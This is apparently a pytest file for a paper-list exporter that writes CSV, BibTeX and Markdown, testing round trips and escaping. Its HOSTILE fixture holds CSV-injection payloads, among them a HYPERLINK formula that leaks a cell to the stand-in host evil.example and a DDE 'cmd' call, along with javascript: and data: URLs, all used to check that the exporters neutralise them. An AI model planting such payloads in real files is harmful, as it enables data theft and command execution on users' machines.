"""The exporters write files that standard readers (pandas, bibtexparser) read back unchanged."""

from __future__ import annotations

import io

import bibtexparser
import pandas as pd
import pytest

from widgets.export import citation_key, to_bibtex, to_csv, to_markdown, unescape_latex

TRICKY = pd.DataFrame([
    {"id": "a/b c", "title": "Q&A at 50% with #tags, {braces} and $x^2$", "abstract": "Line one\nline, two \"quoted\"",
     "code_url": "https://github.com/x/y_z", "url": "https://arxiv.org/abs/2401.01234v2", "authors": ["Ada Lovelace", "Alan Turing"],
     "published": "2024-01-05", "topics": ["rl", "bandits"], "key_idea": "Use *stars* [carefully]", "lessons": []},
    {"id": "a/b c", "title": "Unbalanced } brace", "abstract": None, "code_url": None, "url": None, "authors": None,
     "published": None, "topics": [], "key_idea": None, "lessons": []},
])


def test_csv_round_trip_bundled_corpus(corpus):
    back = pd.read_csv(io.StringIO(to_csv(corpus)), keep_default_na=False)
    assert back["id"].tolist() == corpus["id"].tolist()
    assert back["title"].tolist() == corpus["title"].tolist()
    assert back["abstract"].tolist() == corpus["abstract"].tolist()
    assert back["code_url"].tolist() == [u or "" for u in corpus["code_url"]]


def test_csv_round_trip_tricky_cells():
    back = pd.read_csv(io.StringIO(to_csv(TRICKY)), keep_default_na=False)
    assert back["title"].tolist() == TRICKY["title"].tolist()
    assert back["abstract"][0] == "Line one\nline, two \"quoted\""
    assert back["topics"][0] == "rl; bandits" and back["topics"][1] == ""


def test_bibtex_round_trip_bundled_corpus(corpus):
    library = bibtexparser.parse_string(to_bibtex(corpus))
    assert not library.failed_blocks
    titles = [unescape_latex(e.fields_dict["title"].value) for e in library.entries]
    assert titles == corpus["title"].tolist()
    assert len({e.key for e in library.entries}) == len(corpus)
    with_code = [e for e in library.entries if "note" in e.fields_dict]
    assert len(with_code) == corpus["code_url"].notna().sum()


def test_bibtex_escapes_and_balances():
    text = to_bibtex(TRICKY)
    library = bibtexparser.parse_string(text)
    assert not library.failed_blocks and len(library.entries) == 2
    first, second = library.entries
    assert unescape_latex(first.fields_dict["title"].value) == TRICKY["title"][0]
    assert r"Q\&A at 50\% with \#tags" in first.fields_dict["title"].value
    assert first.fields_dict["author"].value == "Ada Lovelace and Alan Turing"
    assert first.fields_dict["year"].value == "2024"
    assert first.fields_dict["eprint"].value == "2401.01234"
    assert first.fields_dict["url"].value == "https://arxiv.org/abs/2401.01234v2"
    assert first.key != second.key and " " not in first.key and "/" not in first.key
    assert second.fields_dict["title"].value == "Unbalanced ) brace"


def test_citation_keys_are_unique_and_safe():
    taken: set[str] = set()
    assert citation_key("x y,z{}", taken) == "x-y-z"
    assert citation_key("x y,z{}", taken) == "x-y-z-2"
    assert citation_key("", taken) == "paper"


def test_empty_selection():
    empty = TRICKY.iloc[0:0]
    assert to_bibtex(empty) == ""
    assert pd.read_csv(io.StringIO(to_csv(empty))).empty
    assert "0 papers" in to_markdown(empty)


def test_markdown_reading_list(corpus):
    md = to_markdown(corpus.head(3))
    lines = [line for line in md.splitlines() if line[:2] in ("1.", "2.", "3.")]
    assert len(lines) == 3 and md.startswith("# Reading list")
    for n, title in enumerate(corpus["title"].head(3), 1):
        assert lines[n - 1].startswith(f"{n}. **") and title.split()[0] in lines[n - 1]
    tricky = to_markdown(TRICKY)
    assert r"Use \*stars\* \[carefully\]" in tricky
    assert "[Q&A at 50% with #tags, {braces} and $x^2$](<https://arxiv.org/abs/2401.01234v2>)" in tricky
    assert "Code: <https://github.com/x/y_z>" in tricky


@pytest.mark.parametrize("exporter", [to_csv, to_bibtex, to_markdown])
def test_missing_columns_are_tolerated(exporter):
    assert exporter(pd.DataFrame([{"id": "p", "title": "Only a title"}]))


HOSTILE = pd.DataFrame([
    {"id": "h1", "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "abstract": "+cmd|' /C calc'!A0",
     "code_url": "javascript:alert(1)", "url": "https://arxiv.org/abs/2401.00001", "authors": ["@SUM(1+1)*cmd"],
     "published": "2024", "topics": ["-2+3"], "key_idea": "\t=1+1", "lessons": []},
    {"id": "h2", "title": "  =1+1", "abstract": "\r=2", "code_url": None, "url": "data:text/html,<b>x</b>",
     "authors": [], "published": None, "topics": [], "key_idea": "＝1+1", "lessons": []},
    {"id": "h3", "title": "Braces {and} %comments #hash `code` <b>html</b> & more", "abstract": "plain, = later",
     "code_url": None, "url": None, "authors": None, "published": None, "topics": [], "key_idea": None, "lessons": []},
])


def test_csv_never_holds_a_live_formula():
    """OWASP's CSV-injection rule, checked on the parsed file: no cell a spreadsheet would evaluate
    (first non-space character = + - @, tab, CR, or a full-width = + - @) and the text otherwise kept."""
    back = pd.read_csv(io.StringIO(to_csv(HOSTILE)), keep_default_na=False, dtype=str)
    for value in back.to_numpy().ravel():
        assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), value
    assert back["title"][0] == "'" + HOSTILE["title"][0] and back["title"][1] == "'  =1+1"
    assert back["abstract"][1] == "'\r=2" and back["key_idea"][0] == "'\t=1+1" and back["key_idea"][1] == "'＝1+1"
    assert back["authors"][0] == "'@SUM(1+1)*cmd" and back["topics"][0] == "'-2+3"
    assert back["title"][2] == HOSTILE["title"][2] and back["abstract"][2] == "plain, = later"   # nothing else changes


def test_bibtex_and_markdown_stay_valid_with_hostile_text():
    library = bibtexparser.parse_string(to_bibtex(HOSTILE))
    assert not library.failed_blocks and len(library.entries) == 3
    third = library.entries[2]
    assert unescape_latex(third["title"]) == "Braces {and} %comments #hash `code` <b>html</b> & more"
    text = " ".join(str(f.value) for e in library.entries for f in e.fields)
    assert "javascript" not in text and "data:" not in text and "arxiv.org/abs/2401.00001" in text
    md = to_markdown(HOSTILE)
    assert "javascript:" not in md and "data:text" not in md and "<b>" not in md
    assert r"\`code\` \<b\>html\</b\>" in md and "**[" in md.splitlines()[4]  # only the https URL is a link
